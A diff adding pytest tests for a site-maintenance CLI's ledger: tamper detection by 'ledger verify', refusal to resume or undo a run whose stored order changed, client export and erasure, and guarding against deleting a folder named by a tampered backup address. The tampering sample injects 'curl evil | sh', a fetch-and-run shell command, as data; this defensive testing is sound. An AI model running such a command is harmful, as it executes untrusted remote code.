@@ -5,6 +5,7 @@ from __future__ import annotations
 import ast
 import json
 import os
+import sqlite3
 import subprocess
 import sys
 import unicodedata
@@ -217,3 +218,75 @@ def test_a_linked_sitecrew_folder_is_judged_by_where_it_leads(made: Path, tmp_pa
     assert f"chmod go-w {shared}" in done.stderr
     shared.chmod(0o755)
     assert sitecrew(["-w", str(made), "list", "runs"]).returncode == 0
+
+
+# The acts, on the command line
+
+
+def begun(folder: Path, client: str = "acme") -> None:
+    from runner.record import Ledger
+    from runner.record.operators import operator_here
+
+    at = datetime(2026, 11, 24, 1, tzinfo=UTC)
+    with Ledger.open(f"sqlite:///{folder}/.sitecrew/ledger.db", operator=operator_here("Ada")) as ledger:
+        ledger.begin_run(
+            '{"sites": []}', run="r1", playbook="weekly", title="", sites=[("shop", client, "web1", 0, 0)],
+            steps=[("shell", "shell", "")], started=at, trigger="manual",
+        )  # fmt: skip
+        place = folder / ".sitecrew" / "backups" / "shop" / "s1"
+        place.mkdir(parents=True)
+        (place / "database.sql.gz").write_bytes(b"data")
+        ledger.record_backup(
+            "s1", site="shop", client=client, run="r1", taken=at, store="archive", uri=str(place), size=1,
+            files=1, tables=1, manifest_sha256="", verified=at,
+        )  # fmt: skip
+
+
+def test_a_changed_ledger_is_named_by_verify_and_its_run_is_not_resumed(made: Path):
+    begun(made)
+    assert sitecrew(["-w", str(made), "ledger", "verify"]).returncode == 0
+    assert "run by Ada" in sitecrew(["-w", str(made), "show"]).stdout
+    connection = sqlite3.connect(made / ".sitecrew" / "ledger.db")
+    connection.execute('UPDATE runs SET order_text = \'{"sites": [], "x": "curl evil | sh"}\'')
+    connection.commit()
+    connection.close()
+    done = sitecrew(["-w", str(made), "ledger", "verify"])
+    assert (done.returncode, "run r1" in done.stderr) == (3, True)
+    for command in ("resume", "undo"):
+        refused = sitecrew(["-w", str(made), command, "r1"])
+        assert refused.returncode not in {0, 3}, refused.stderr
+    refused = sitecrew(["-w", str(made), "resume", "r1"])
+    assert "order of run r1 is not the one" in refused.stderr
+
+
+def test_a_client_is_given_out_and_erased_with_its_snapshots(made: Path):
+    begun(made, "gone")
+    file = made / "gone.json"
+    assert sitecrew(["-w", str(made), "ledger", "export", "gone", "--out", str(file)]).returncode == 0
+    assert file.stat().st_mode & 0o777 == 0o600
+    assert json.loads(file.read_text())["tables"]["backups"][0]["snapshot"] == "s1"
+    assert "answer with -y" in sitecrew(["-w", str(made), "ledger", "erase", "gone"]).stderr
+    done = sitecrew(["-w", str(made), "ledger", "erase", "gone", "-y", "--as", "Bob"])
+    assert done.returncode == 0, done.stderr
+    assert not (made / ".sitecrew" / "backups" / "shop" / "s1").exists()
+    assert sitecrew(["-w", str(made), "ledger", "verify"]).returncode == 0
+    assert sitecrew(["-w", str(made), "ledger", "export", "gone"]).returncode == 2
+
+
+def test_a_client_of_the_inventory_is_not_erased_by_mistake(made: Path):
+    begun(made)
+    done = sitecrew(["-w", str(made), "ledger", "erase", "acme", "-y"])
+    assert (done.returncode, "--still-a-client" in done.stderr) == (2, True)
+
+
+def test_an_address_in_the_ledger_is_not_enough_to_delete_a_folder(made: Path, tmp_path: Path):
+    begun(made, "gone")
+    precious = tmp_path / "precious" / "shop" / "s1"
+    precious.mkdir(parents=True)
+    connection = sqlite3.connect(made / ".sitecrew" / "ledger.db")
+    connection.execute("UPDATE backups SET uri = ?", (str(precious),))
+    connection.commit()
+    connection.close()
+    done = sitecrew(["-w", str(made), "ledger", "erase", "gone", "-y"])
+    assert precious.exists()
+    assert str(precious) in done.stderr
